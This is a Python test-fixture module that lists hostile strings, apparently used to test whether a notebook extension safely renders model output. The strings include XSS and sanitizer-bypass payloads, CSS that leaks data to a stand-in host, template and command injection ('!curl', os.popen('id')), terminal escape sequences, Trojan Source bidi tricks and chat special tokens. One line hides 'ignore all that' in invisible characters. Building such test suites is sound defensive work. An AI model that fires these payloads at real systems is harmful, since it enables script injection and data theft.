"""Hostile texts of models, files, names and paths. Each payload reveals whether it was executed."""

from __future__ import annotations

import itertools
from collections.abc import Iterator
from typing import NamedTuple

RUN = "window.__pwned=1"
OUT = "//outside.test/x"
ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"


class Payload(NamedTuple):
    family: str
    text: str


def script_elements() -> Iterator[str]:
    for name in (
        "script",
        "SCRIPT",
        "ScRiPt",
        "script ",
        "script/x",
        "script\n",
        "script\t",
        "script\x0c",
        "script type=module",
        "script async",
    ):
        yield f"<{name}>{RUN}</script>"
    for before in (
        "",
        "</title>",
        "</style>",
        "</textarea>",
        "</script>",
        "-->",
        "]]>",
        "</pre></details>",
        "</svg>",
        "</text></svg>",
        "\x00",
        "\ufeff",
    ):
        yield f"{before}<script>{RUN}</script>"
        yield f"{before}<script src={OUT}></script>"
    yield f"<svg><script>{RUN}</script></svg>"
    yield f"<svg><script href={OUT} /></svg>"
    yield f"<svg><script xlink:href='data:,{RUN}'/></svg>"
    yield f"<svg xmlns='http://www.w3.org/2000/svg'><![CDATA[><script>{RUN}</script>]]></svg>"
    yield f"<!--<script>{RUN}//-->"
    yield f"<!--><script>{RUN}</script>-->"
    yield f"<scr<script>ipt>{RUN}</scr</script>ipt>"
    yield f"<<script>{RUN}//<</script>"
    yield f"<script\x00>{RUN}</script>"
    yield f"<script x='>'>{RUN}</script>"
    yield f"\u003cscript\u003e{RUN}\u003c/script\u003e"
    yield f"&lt;script&gt;{RUN}&lt;/script&gt;"
    yield f"&#60;script&#62;{RUN}&#60;/script&#62;"
    yield f"&#x3c;script&#x3e;{RUN}"
    yield f"%3Cscript%3E{RUN}%3C/script%3E"
    yield f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-"
    yield f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e"
    yield f"\u2039script\u203a{RUN}"


def event_handlers() -> Iterator[str]:
    loads = {
        "img src=x": "onerror",
        "svg": "onload",
        "body": "onload",
        "iframe": "onload",
        "video src=x": "onerror",
        "audio src=x": "onerror",
        "object data=x": "onerror",
        "embed src=x": "onload",
        "input autofocus": "onfocus",
        "select autofocus": "onfocus",
        "textarea autofocus": "onfocus",
        "details open": "ontoggle",
        "style": "onload",
        "link rel=stylesheet href=x": "onerror",
        "marquee": "onstart",
        "p tabindex=1": "onfocus",
        "b": "onpointerover",
        "div style=animation-name:x": "onanimationstart",
        "svg><animate attributeName=x dur=1s": "onbegin",
        "video><source": "onerror",
    }
    for element, event in loads.items():
        yield f"<{element} {event}={RUN}>"
        yield f"<{element} {event.upper()}='{RUN}'//"
        yield f'<{element.replace(" ", "/")}/{event}="{RUN}">'
        yield f"</span></div><{element}\n{event}\n=\n{RUN} x"


def attribute_breaks() -> Iterator[str]:
    for quote in ('"', "'", "`", "&quot;", "&#34;", "&#39;", "\u201d", '\x00"', '\\"', "\\'"):
        for event in ("onpointerover", "onfocus autofocus tabindex=0 x", "onanimationstart"):
            yield f"x{quote} {event}={quote}{RUN}"
        yield f"x{quote}><img src=x onerror={quote}{RUN}{quote}>"
        yield f"x{quote} style={quote}background:url({OUT})"
    for closing in (
        "title",
        "textarea",
        "style",
        "noscript",
        "pre",
        "svg",
        "math",
        "select",
        "option",
        "template",
        "summary",
        "button",
        "table",
    ):
        yield f"</{closing}><img src=x onerror={RUN}>"
    yield f"'\"`><svg/onload={RUN}>"
    yield f"--><svg/onload={RUN}>"
    yield f"]]></text></svg><img src=x onerror={RUN}>"
    yield f"<a title='</span><img src=x onerror={RUN}>'>"


def addresses() -> Iterator[str]:
    schemes = (
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "java\nscript:",
        "\x01javascript:",
        " javascript:",
        "javascript&colon;",
        "&#106;avascript:",
        "javascript:/*--></title>*/",
        "vbscript:",
        "view-source:javascript:",
        "data:text/html,<script>",
        "data:text/html;base64,PHNjcmlwdD4=",
    )
    for scheme in schemes:
        yield f"<a href='{scheme}{RUN}'>click</a>"
        yield f"{scheme}{RUN}"
    yield from (
        f"<iframe src='javascript:parent.{RUN}'></iframe>",
        f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
        f"<form action='javascript:{RUN}'><input type=submit></form>",
        f"<button formaction='javascript:{RUN}'>x</button>",
        f"<object data='javascript:{RUN}'></object>",
        f"<math href='javascript:{RUN}'>x</math>",
        f"<svg><a xlink:href='javascript:{RUN}'><text y=9>x</text></a></svg>",
        f"<svg><use href='{OUT}#x'/></svg>",
        f"<svg><image href='{OUT}'/></svg>",
        f"<svg><set attributeName=href to='javascript:{RUN}'></svg>",
        f"<meta http-equiv=refresh content='0;url={OUT}'>",
        f"<base href='{OUT}/'>",
        f"<img src={OUT}>",
        f"<img srcset='{OUT} 1x'>",
        f"<link rel=prefetch href={OUT}>",
        f"<video poster={OUT}></video>",
        f"<table background={OUT}><td>x</table>",
        f"<input type=image src={OUT}>",
        f"<portal src={OUT}></portal>",
        f"https:{OUT}?q=<b>&x='y'",
        f"www.outside.test/{'a' * 30}",
        "mailto:x@outside.test?subject=%0d%0aBcc:y",
        "file:///etc/passwd",
        "command:workbench.action.terminal.new",
    )


def styles() -> Iterator[str]:
    yield f";background:url({OUT})"
    yield f";background:url('{OUT}');x:"
    yield f"red;}}*{{background:url({OUT})}}"
    yield f"</style><style>@import '{OUT}';</style>"
    yield f"<style>@import url({OUT});</style>"
    yield f"<style>*{{background:url({OUT})}}</style>"
    yield f"<style>input[value^=a]{{background:url({OUT})}}</style>"
    yield f"<style>@font-face{{font-family:x;src:url({OUT})}}*{{font-family:x}}</style>"
    yield f"expression({RUN})"
    yield f"x:expression({RUN})"
    yield f"-moz-binding:url({OUT}#x)"
    yield f"behavior:url({OUT})"
    yield f"\\75\\72\\6c({OUT})"
    yield "position:fixed;inset:0;z-index:9999;background:#fff"
    yield "<div style='position:fixed;inset:0;z-index:9999;background:#fff'>cover</div>"
    yield "<style>body{display:none!important}</style>"
    yield "</style>{}*{display:none}"
    yield "var(--x,red);--sgl-cached:transparent"
    yield f"image-set(url({OUT}) 1x)"
    yield "/*"
    yield "*/ } body { display: none } /*"


def mutations() -> Iterator[str]:
    """Texts that sanitizers and second parses have turned into markup."""
    shown = f"<img src=x onerror={RUN}>"
    yield f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{shown}'>"
    yield f"<svg></p><style><a id='</style>{shown}'>"
    yield f"<noscript><p title='</noscript>{shown}'>"
    yield f"<form><math><mtext></form><form><mglyph><style></math>{shown}"
    yield f"<svg><foreignObject><div>{shown}</div></foreignObject></svg>"
    yield f"<math><annotation-xml encoding='text/html'>{shown}</annotation-xml></math>"
    yield f"<template>{shown}</template>"
    yield f"<xmp>{shown}</xmp>"
    yield f"<plaintext>{shown}"
    yield f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>"
    yield f"<select><template><style><!--</style><a rel='--></style></template></select>{shown}'>"
    yield f"<svg><title><style><a title='</title>{shown}'>"
    yield f"<![CDATA[{shown}]]>"
    yield f"<?xml version='1.0'?><?x {shown}?>"
    yield f"<!DOCTYPE x [<!ENTITY y SYSTEM '{OUT}'>]><x>&y;</x>"
    yield "<!ENTITY lol 'lol'>&lol;&lol2;"
    yield "&amp;lt;b&amp;gt;&amp;amp;"
    yield "&NewLine;&Tab;&lpar;&rpar;&colon;&nbsp;&ZeroWidthSpace;"
    yield "&#0;&#13;&#x80;&#xd800;&#x110000;&#27;[31m"
    yield "&lt&gt&amp&quot"


def for_the_notebook() -> Iterator[str]:
    yield "<button data-commandlinker-command='notebook:run-all-cells' data-commandlinker-args='{}'>x</button>"
    yield "<a data-commandlinker-command='terminal:create-new'>x</a>"
    yield '<script id="jupyter-config-data" type="application/json">{"baseUrl":"//outside.test/","token":"x"}</script>'
    yield "<b id=jupyter-config-data>{}</b>"
    yield "<form name=body id=lab><input name=innerHTML></form>"
    yield "<a id=model><a id=model name=send href=x>"
    yield "<img name=getElementById><img name=cookie>"
    yield "<div data-sgl-place='0123456789abcdef'>x</div>"
    yield "<div class='jp-OutputArea jp-mod-isolated sgl-live' hidden inert>x</div>"
    yield "<jupyter-thing is=x slot=y></jupyter-thing>"
    yield "<div contenteditable draggable=true accesskey=x>x</div>"
    yield "attachment:x.png"
    yield "%%javascript\nwindow.__pwned=1"
    yield "!curl outside.test"
    yield "In [1]: import os; os._exit(1)"
    yield "\n%sgl model evil/evil\n"
    yield '*** x ***\nTraceback (most recent call last):\n  File "x", line 1'


def templates() -> Iterator[str]:
    code = f"constructor.constructor('{RUN}')()"
    for opening, closing in (
        ("{{", "}}"),
        ("${", "}"),
        ("<%=", "%>"),
        ("#{", "}"),
        ("[[", "]]"),
        ("{%", "%}"),
        ("@(", ")"),
        ("{!!", "!!}"),
    ):
        yield f"{opening}{code}{closing}"
        yield f"{opening} 7*7 {closing}"
    yield "{0.__class__.__mro__}"
    yield "{self._shell}{title!r:>99999}"
    yield "%(title)s %s %d %n %99999d"
    yield "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
    yield "{% include '/etc/passwd' %}"
    yield "__import__('os')._exit(1)"
    yield "$(id) `id` ; id | id && id"
    yield "KEY CODE META DATA"
    yield "\\1\\g<0>\\g<name>$1$&$`$'"
    yield "__proto__"
    yield "constructor"
    yield "hasOwnProperty"
    yield "toString"


def for_json() -> Iterator[str]:
    yield '"}],"x":[{"y":"'
    yield '\\"}],"x":'
    yield "\\"
    yield "\\\\\\"
    yield '","__proto__":{"x":1},"y":"'
    yield "\\u003cscript\\u003e"
    yield "\\ud800"
    yield "'});" + RUN + ";({'"
    yield "\u2028" + RUN + "\u2029"
    yield "*/" + RUN + "/*"
    yield "</script><!--<script>"
    yield "<!--"
    yield "-->"
    yield "]]>"
    yield '{"event":"NodeEvicted","node":1,"n_tokens":1}'
    yield '\n{"seq":1}\n'
    yield "NaN"
    yield "-Infinity"
    yield "1e999"
    yield "null"
    yield '"ph":"X","name":"},{'


def for_charts() -> Iterator[str]:
    yield "<b>bold</b><br>line"
    yield f"<a href='javascript:{RUN}'>point</a>"
    yield f"<a href='{OUT}' target='_self'>point</a>"
    yield "<extra>%{x}</extra>"
    yield "%{customdata[0]:,}%{y:.1%}"
    yield "<sup>x</sup><sub>y</sub><i>z</i><em>w</em>"
    yield "<span style='color:red;font-size:99px'>x</span>"
    yield "<span style='fill:url(//outside.test/x)'>x</span>"
    yield "$\\alpha$ <br> $$\\beta$$"
    yield "<BR/><B>x"
    yield "\\N\\G\\E\\T\\H\\L\\l\\r\\n"
    yield '"]; evil [label="x'
    yield '"]; subgraph { evil } n1 [URL="javascript:' + RUN + '"'
    yield "<<TABLE HREF='javascript:" + RUN + "'><TR><TD>x</TD></TR></TABLE>>"
    yield "<b>html-like label</b>"
    yield "<IMG SRC='/etc/passwd'/>"
    yield "}\ndigraph evil { a -> b"
    yield "/* */ // # x"
    yield "{a|b|<port> c}"
    yield "&lt;script&gt;&amp;&#x202e;&#27;&#0;&copy;&unknown;"
    yield '\\"'
    yield "x\\"
    yield "label\\nwith\\lall\\rbreaks\\"
    yield "step 1;tid=2,ts=-1"
    yield "track{}[]\"',:"


def for_markdown() -> Iterator[str]:
    yield f"[click](javascript:{RUN})"
    yield f"[click](<javascript:{RUN}>)"
    yield f"![image]({OUT})"
    yield f"[x]: {OUT} 'title'"
    yield f"<https:{OUT}>"
    yield f"# heading\n\n* list\n\n> quote\n\n| a | b |\n|---|---|\n| ![]({OUT}) | x |"
    yield f"```html\n<img src=x onerror={RUN}>\n```"
    yield f'```mermaid\ngraph LR; a-->b; click a href "javascript:{RUN}"\n```'
    yield "~~~\n</code></pre><script>x</script>\n~~~"
    yield "***bold*** __under__ ~~gone~~ `code`"
    yield "[^1]: note <!-- x -->"
    yield "\\begin{equation}x\\label{y}\\end{equation}\\eqref{y}"
    for opening, closing in (("$", "$"), ("$$", "$$"), ("\\(", "\\)"), ("\\[", "\\]"), ("\\begin{align}", "\\end{align}")):
        yield f"{opening}\\href{{javascript:{RUN}}}{{x}}{closing}"
        yield f"it costs {opening}5 and {closing}6"
        yield f"{opening}\\require{{html}}\\cssId{{jupyter-config-data}}{{x}}\\class{{sgl-live}}{{y}}\\style{{top:0}}{{z}}{closing}"
        yield f"{opening}\\unicode{{x3c}}\\text{{<img src=x onerror={RUN}>}}{closing}"
    yield "\\input{/etc/passwd}\\write18{id}"
    yield "\\end{Verbatim}\\immediate\\write18{id}\\begin{Verbatim}"
    yield "\\catcode`\\$=12"


def for_terminals() -> Iterator[str]:
    yield f"{ESC}]0;pwned{BEL}title"
    yield f"{ESC}]2;pwned{ST}title"
    yield f"{ESC}]8;;https:{OUT}{ST}link{ESC}]8;;{ST}"
    yield f"{ESC}]52;c;cHduZWQ={BEL}clipboard"
    yield f"{ESC}]1337;File=inline=1:AAAA{BEL}"
    yield f"{ESC}]4;0;?{BEL}{ESC}]10;?{BEL}"
    yield f"{ESC}[2J{ESC}[H cleared"
    yield f"{ESC}[31mred{ESC}[0m"
    yield f"{ESC}[8mconcealed{ESC}[0m"
    yield f"{ESC}[1A{ESC}[2K over the line before"
    yield f"{ESC}[?1049h other screen"
    yield f"{ESC}[?1000h mouse"
    yield f"{ESC}[6n{ESC}[c{ESC}[0c answers"
    yield f"{ESC}P+q544e{ST}"
    yield f'{ESC}P$q"p{ST}'
    yield f"{ESC}_Gi=1,a=T;AAAA{ST}"
    yield f"{ESC}^private{ST}"
    yield f"{ESC}X{ST}{ESC}c{ESC}7{ESC}8{ESC}#8{ESC}(0lqk"
    yield f"{ESC}[38;2;0;0;0;48;2;0;0;0mblack{ESC}[m"
    yield f"{ESC}[{'9' * 40}m{ESC}[1;31;{'1;' * 40}m"
    yield f"{ESC}"
    yield f"{ESC}["
    yield "\x9b31m\x9d0;x\x9c\x90q\x9c"
    yield "safe\rEVIL"
    yield "safe\b\b\b\bEVIL"
    yield "a\x0bb\x0cc"
    yield "bell\x07\x07\x07"
    yield "\x0eshifted\x0f"
    yield "first line\n\x1b[1Asecond"
    yield "tab\ttab"


def unseen_characters() -> Iterator[str]:
    controls = [n for n in range(0x20) if chr(n) not in "\n\t"] + list(range(0x7F, 0xA0))
    bidi = [0x61C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A)]
    invisible = [
        0xAD,
        0x34F,
        0x115F,
        0x180E,
        0x200B,
        0x2028,
        0x2029,
        0x2060,
        0x2062,
        0x206A,
        0x3164,
        0xFEFF,
        0xFFA0,
        0xFFF9,
        0x1D173,
        0xE0001,
    ]
    broken = [0xD800, 0xDBFF, 0xDC00, 0xDFFF, 0xFDD0, 0xFFFE, 0xFFFF]
    for code in itertools.chain(controls, bidi, invisible, broken):
        yield f"<b>{chr(code)}</b>"
    yield "\u202egnp.exe\u2066\u2069"
    yield "if access != 'user\u202e \u2066// admin\u2069 \u2066':"
    yield "\udfff\ud800 in the wrong order"
    yield "\ud83d half of one \ude00"
    yield "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all that")
    yield "\U0001f600" + "".join(chr(0xE0100 + n) for n in b"hidden")
    yield "\u200b\u200c\u200d\u200c\u200b" * 8
    yield "p\u0430yp\u0430l"
    yield "Z\u0336\u035b\u0340" * 12 + "algo"
    yield "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f of England"
    yield "\U0001f469\u200d\U0001f469\u200d\U0001f467 \u2764\ufe0f \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 \u05e9\u05dc"


def spellings() -> Iterator[str]:
    """Texts that look like the spelling of special tokens and of single bytes."""
    yield "<|im_start|>"
    yield "<<|im_start|><|im_end|>>"
    yield f"<|{RUN}|>"
    yield f"<|<img/src=x/onerror={RUN}>|>"
    yield "</s>"
    yield "<s>"
    yield "\\xe2\\x80\\xae right to left"
    yield "\\xef\\xbb\\xbf mark"
    yield "\\xc2\\x9b31m"
    yield "\\xf0\\x9f\\"
    yield "\\xed\\xa0\\x80"
    yield "\\xf3\\xa0\\x81\\x81"
    yield "\\xc0\\xbcscript\\xc0\\xbe"


def large() -> Iterator[str]:
    yield "<" * 5_000
    yield "<b>" * 1_000
    yield "<div>" * 2_000 + "</div>"
    yield "&amp;" * 1_000
    yield "&" * 1_000
    yield "A" * 100_000
    yield "\n" * 500
    yield "\x1b[31m" * 500
    yield "\u202e" * 500
    yield "\u0301" * 2_000
    yield '"' * 1_000
    yield "\ud800" * 1_000


FAMILIES = (
    script_elements,
    event_handlers,
    attribute_breaks,
    addresses,
    styles,
    mutations,
    for_the_notebook,
    templates,
    for_json,
    for_charts,
    for_markdown,
    for_terminals,
    unseen_characters,
    spellings,
    large,
)
PAYLOADS = tuple(Payload(family.__name__, text) for family in FAMILIES for text in dict.fromkeys(family()))
